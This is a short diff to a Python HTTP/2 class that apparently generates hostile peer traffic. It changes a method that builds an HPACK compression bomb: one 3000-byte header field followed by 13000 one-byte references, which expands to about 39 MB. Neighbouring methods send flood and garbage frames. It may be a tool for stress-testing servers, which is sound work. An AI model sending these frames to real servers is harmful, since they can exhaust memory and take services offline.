@@ -434,10 +434,10 @@ class Http2:
         self.flood('empty_continuation_flood', stream, 9, 0, stream)
 
     def h2_hpack_bomb(self, stream):
-        """One long field into the table, then a byte for each copy of it: 48 MB in 16 KB."""
+        """One long field into the table, then a byte for each copy of it: 39 MB in 16 KB."""
         field = b'\x40\x01x\x7f' + bytes([(3000 - 127) & 0x7f | 0x80, (3000 - 127) >> 7]) + b'b' * 3000
-        self.raw_frame(1, 4, stream, b'\x88' + field + b'\xbe' * 16000)   # ... | END_HEADERS
-        Origin.wait_end(self.peer)
+        self.raw_frame(1, 4, stream, b'\x88' + field + b'\xbe' * 13000)   # ... | END_HEADERS
+        Origin.close_notify(self.peer)
         raise Gone
 
     def h2_garbage(self, stream):
